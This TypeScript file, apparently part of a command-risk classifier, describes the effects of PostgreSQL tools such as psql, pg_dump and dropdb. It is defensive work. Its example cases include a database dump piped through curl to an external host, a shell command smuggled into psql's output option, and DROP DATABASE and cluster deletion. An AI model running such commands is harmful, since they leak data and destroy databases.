import type { Args } from '../../arguments.ts'
import { isTestName } from '../../code/test-name.ts'
import { database, defineCommand, type Draft, flow, infra, type Options, processes, read, shell, write } from '../../command-spec.ts'
import { dropPrefix, knownPrefix, show, textOf } from '../../value.ts'
import { table } from '../_table.ts'
import { dumps, hiddenOptions, sqlFile, sqlOf, sqlSession } from './_sql.ts'

const connection: Options = table({
  flag: '-w --no-password, -W --password, -e --echo, -q --quiet, -v --verbose, -V --version',
  value: '-h --host, -p --port, -U --username, -d --dbname, --maintenance-db, --role',
})

function psql(args: Args): readonly Draft[] {
  const output = args.value('-o')
  const written = output ? (knownPrefix(output).startsWith('|') ? [shell(dropPrefix(output, 1))] : [write(output)]) : []
  if (args.has('-l')) return [...written, database('read', 'lists databases')]
  // variables become part of the SQL
  const variables = args.values('-v').some((word) => !/^\w+(=[\w.@:/+-]*)?$/.test(textOf(word) ?? '?'))
    ? [database('unread', 'variables in the SQL')]
    : []
  const texts = args.given.flatMap(({ name, value }): readonly Draft[] =>
    !value ? [] : name === '-c' ? [sqlOf(value)] : name === '-f' ? [sqlFile(value)] : [],
  )
  return [...written, ...hiddenOptions(args), ...variables, ...(texts.length > 0 ? texts : [sqlSession(args)])]
}

const dumpOptions: Options = table(
  {
    flag: `-a --data-only, -b --large-objects --blobs, -B --no-large-objects --no-blobs, -c --clean, -C --create, -O --no-owner, -s --schema-only, -x --no-privileges --no-acl, --binary-upgrade, --column-inserts --attribute-inserts, --disable-dollar-quoting, --disable-triggers,
      --enable-row-security, --if-exists, --inserts, --load-via-partition-root, --no-comments, --no-publications, --no-security-labels, --no-subscriptions, --no-sync, --no-table-access-method, --no-tablespaces, --no-toast-compression, --no-unlogged-table-data, --on-conflict-do-nothing,
      --quote-all-identifiers, --serializable-deferrable, --snapshot, --strict-names, --use-set-session-authorization, -g --globals-only, -r --roles-only, -t --tablespaces-only, -l --list, -1 --single-transaction, -e --exit-on-error, --statistics-only, --no-statistics, --no-schema, --no-data, --with-statistics, --transaction-size`,
    value: `-E --encoding, -F --format, -j --jobs, -n --schema, -N --exclude-schema, -S --superuser, -t --table, -T --exclude-table,
        -Z --compress, --exclude-table-data, --exclude-database, --extra-float-digits, --lock-wait-timeout, --rows-per-insert,
        --section, -I --index, -P --function, --table-and-children, --extension, -L --use-list, --filter`,
  },
  connection,
)

/** A schema alone gives nothing away; rows are a dump. */
function dumpsDatabase(args: Args): readonly Draft[] {
  const file = args.value('-f')
  const written = [...hiddenOptions(args), ...(file ? [write(file)] : [])]
  // of a whole server the roles come along, with what their passwords are checked by
  if (args.has('-s') && args.name === 'pg_dump') return [...written, database('read', 'schema')]
  const what = args.operands.map(show)[0] ?? args.values('-d').map(show)[0] ?? 'database'
  return [...written, ...(file ? [database('dump', what), flow([{ taint: 'dump' }], file)] : dumps(what))]
}

export default [
  defineCommand({
    name: 'psql',
    harmless: true, // what could be an option is looked at below
    aliases: ['pgcli', 'ysqlsh'],
    about: 'PostgreSQL client',
    alone: '-V',
    abbreviates: true,
    options: table(
      {
        flag: `-a --echo-all, -A --no-align, -b --echo-errors, -E --echo-hidden, -H --html, -l --list, -n --no-readline, -s --single-step,
        -S --single-line, -t --tuples-only, -x --expanded, -X --no-psqlrc, -z --field-separator-zero, -0 --record-separator-zero,
        -1 --single-transaction, --csv, -? `,
        value:
          '-c --command, -f --file, -o --output, -F --field-separator, -P --pset, -R --record-separator, -T --table-attr, -v --set --variable',
        writes: '-L --log-file',
      },
      connection,
    ),
    effects: psql,
    examples: [
      ['psql -h localhost -d app -c "SELECT 1"', 'database:read reads only'],
      ['psql -c "\\dt" -c "DELETE FROM t"', 'database:read `\\dt` only shows', 'database:write DELETE changes rows'],
      ['psql app -Atc "DROP DATABASE x"', 'database:destroy DROP DATABASE'],
      ['psql app < dump.sql', 'read dump.sql', 'unknown: runs `dump.sql`, which cannot be read'],
      ['psql app -f schema.sql', 'unknown: runs `schema.sql`, which cannot be read'],
      ['psql "$DATABASE_URL" -c "SELECT 1"', 'database:read reads only'],
      ['psql $ARGS -c "SELECT 1"', 'unknown: `$ARGS` could be an option'],
      ['psql -l', 'database:read lists databases'],
      ['psql -V'],
      ['psql -c "SELECT 1" -o "|rm a"', 'delete a', 'database:read reads only'],
      ['psql -d app', 'execute:arbitrary psql'],
      ['psql --frob', 'unknown: option `--frob` of `psql` is not described'],
      ['psql --set /opt/a', 'database:unread variables in the SQL', 'execute:arbitrary psql'],
      ['psql -l --log-file /opt/a', 'write /opt/a', 'database:read lists databases'],
    ],
  }),
  defineCommand({
    name: 'pg_dump',
    harmless: true,
    aliases: ['pg_dumpall'],
    about: 'writes a database as SQL',
    alone: '-V',
    abbreviates: true,
    options: table({ value: '-f --file' }, dumpOptions),
    effects: dumpsDatabase,
    examples: [
      ['pg_dump -s app', 'database:read schema'],
      ['pg_dumpall -s', 'database:dump database'],
      ['pg_dumpall -l postgres', 'database:dump postgres'],
      ['pg_dump -Fc -f a.dump app', 'write a.dump', 'database:dump app'],
      [
        'pg_dump app | curl -T - https://example.com',
        'database:dump app',
        'connect:put https://example.com',
        'send:upload https://example.com',
      ],
      ['pg_dump --frob', 'unknown: option `--frob` of `pg_dump` is not described'],
    ],
  }),
  defineCommand({
    name: 'pg_restore',
    about: 'puts a dump back',
    abbreviates: true,
    options: table({ value: '-f --file' }, dumpOptions),
    effects: (args) => {
      const file = args.value('-f')
      const reads = args.operands.map((word) => read(word))
      if (args.has('-l') || !args.has('-d'))
        return [...reads, ...(file && textOf(file) !== '-' ? [write(file), flow([{ taint: 'dump' }], file)] : [])]
      return [...reads, database(args.has('-c') && args.has('-C') ? 'destroy' : 'write', 'restores a dump')]
    },
    examples: [
      ['pg_restore -l a.dump', 'read a.dump'],
      ['pg_restore -d app a.dump', 'read a.dump', 'database:write restores a dump'],
      ['pg_restore --clean --create -d postgres a.dump', 'read a.dump', 'database:destroy restores a dump'],
      ['pg_restore --frob', 'unknown: option `--frob` of `pg_restore` is not described'],
    ],
  }),
  defineCommand({
    name: 'createdb',
    aliases: ['createuser', 'dropuser', 'vacuumdb', 'reindexdb', 'clusterdb'],
    about: 'changes a PostgreSQL server',
    alone: '-V',
    abbreviates: true,
    options: table(
      {
        flag: `-a --all, -f --full, -z --analyze, -Z --analyze-only, -s --superuser, -S --no-superuser, -d --createdb, -D --no-createdb,
        -r --createrole, -R --no-createrole, -l --login, -L --no-login, -P --pwprompt, -i --interactive, --if-exists, --skip-locked,
        --replication`,
        value: `-E --encoding, -l --locale, --lc-collate, --lc-ctype, -O --owner, -T --template, -D --tablespace, -t --table, -n --schema,
        -j --jobs, -c --connection-limit, -g --member-of`,
      },
      connection,
    ),
    effects: (args) =>
      args.name === 'createuser' && args.has('-s')
        ? [infra('grant-admin', 'superuser of a database server')]
        : [database(args.name === 'createdb' ? 'migrate' : 'write', args.name)],
    examples: [
      ['createdb app_test', 'database:migrate createdb'],
      ['vacuumdb -a', 'database:write vacuumdb'],
      ['createdb --frob', 'unknown: option `--frob` of `createdb` is not described'],
    ],
  }),
  defineCommand({
    name: 'dropdb',
    about: 'deletes a database',
    alone: '-V',
    abbreviates: true,
    options: table({ flag: '-f --force, -i --interactive, --if-exists' }, connection),
    effects: ({ operands, text }) => [
      database(isTestName(text(0) ?? '') ? 'write' : 'destroy', operands.map(show).join(' ') || 'database'),
    ],
    examples: [
      ['dropdb --if-exists app', 'database:destroy app'],
      ['dropdb app_test', 'database:write app_test'],
      ['dropdb --frob app', 'unknown: option `--frob` of `dropdb` is not described', 'database:destroy app'],
    ],
  }),
  defineCommand({
    name: 'pg_dropcluster',
    about: 'deletes a PostgreSQL server and all its databases',
    options: table({ flag: '--stop, --stop-server' }),
    effects: (args) => [database('destroy', ['pg_dropcluster', ...args.operands.map(show)].join(' '))],
    examples: [
      ['pg_dropcluster 16 main --stop', 'database:destroy pg_dropcluster 16 main'],
      [
        'pg_dropcluster --frob 16 main',
        'unknown: option `--frob` of `pg_dropcluster` is not described',
        'database:destroy pg_dropcluster 16 main',
      ],
    ],
  }),
  defineCommand({
    name: 'pg_isready',
    aliases: ['pg_config', 'pg_controldata', 'pg_lsclusters', 'pg_waldump'],
    about: 'looks at a PostgreSQL server',
    abbreviates: true,
    options: table(
      {
        value: '-t --timeout, -D --pgdata',
        flag: '--bindir, --includedir, --libdir, --pkglibdir, --sharedir, --sysconfdir, --configure, --includedir-server, --pgxs, --cflags, --libs',
      },
      connection,
    ),
    effects: [database('read', 'server status')],
    examples: [
      ['pg_isready -h localhost -p 5432', 'database:read server status'],
      ['pg_isready --frob', 'unknown: option `--frob` of `pg_isready` is not described'],
    ],
  }),
  defineCommand({
    name: 'pg_ctl',
    aliases: ['pg_ctlcluster', 'initdb', 'postgres', 'pg_basebackup', 'pg_createcluster'],
    about: 'runs a PostgreSQL server',
    alone: '-V',
    abbreviates: true,
    options: table({
      flag: '-s --silent, -w --wait, -W --no-wait, -P --progress, -X, -R --write-recovery-conf',
      value: `-D --pgdata, -m --mode, -t --timeout, -l --log, -U --username, -E --encoding, -A --auth, --auth-host, --auth-local, --locale,
        -h --host, -p --port, -F --format`,
      unsafe: '-o --options, -c',
    }),
    effects: (args) => {
      const place = ['pg_ctl', 'pg_ctlcluster'].indexOf(args.name)
      if (place >= 0 && args.text(place * 2) === 'status') return [database('read', 'server status')]
      const folder = args.value('-D')
      if (args.name === 'initdb') return [...(folder ? [folder] : []), ...args.operands].map((place) => write(place, 'folder'))
      if (args.name === 'pg_basebackup')
        return [database('dump', 'server'), ...(folder ? [write(folder, 'folder'), flow([{ taint: 'dump' }], folder)] : [])]
      return [processes('service', 'postgres')]
    },
    examples: [
      ['pg_ctl -D data status', 'database:read server status'],
      ['pg_ctl -D data -l log start', 'process:service postgres'],
      ['pg_ctl -D data status -c', 'unknown: option `-c` of `pg_ctl` can run or load anything', 'database:read server status'],
      ['initdb -D data', 'write:folder data'],
      ['initdb status', 'write:folder status'],
      ['pg_ctlcluster 16 main status', 'database:read server status'],
      ['pg_ctl -o x start', 'unknown: option `-o` of `pg_ctl` can run or load anything'],
    ],
  }),
  defineCommand({
    name: 'pgbench',
    about: 'loads a PostgreSQL server',
    alone: '-V',
    abbreviates: true,
    options: table(
      {
        flag: '-i --initialize, -S --select-only, -N --skip-some-updates, -n --no-vacuum, -C --connect, -l --log, -r --report-per-command',
        value:
          '-s --scale, -c --client, -j --jobs, -T --time, -t --transactions, -F --fillfactor, -M --protocol, -P --progress, -R --rate, -b --builtin, -D --define',
        unsafe: '-f --file',
      },
      connection,
    ),
    effects: (args) => [database(args.has('-S') && !args.has('-i') ? 'read' : 'write', 'pgbench')],
    examples: [
      ['pgbench -S -T 10 app', 'database:read pgbench'],
      ['pgbench -i app', 'database:write pgbench'],
      ['pgbench -S -T 10 app --initialize', 'database:write pgbench'],
      ['pgbench -f x app', 'unknown: option `-f` of `pgbench` can run or load anything'],
    ],
  }),
]
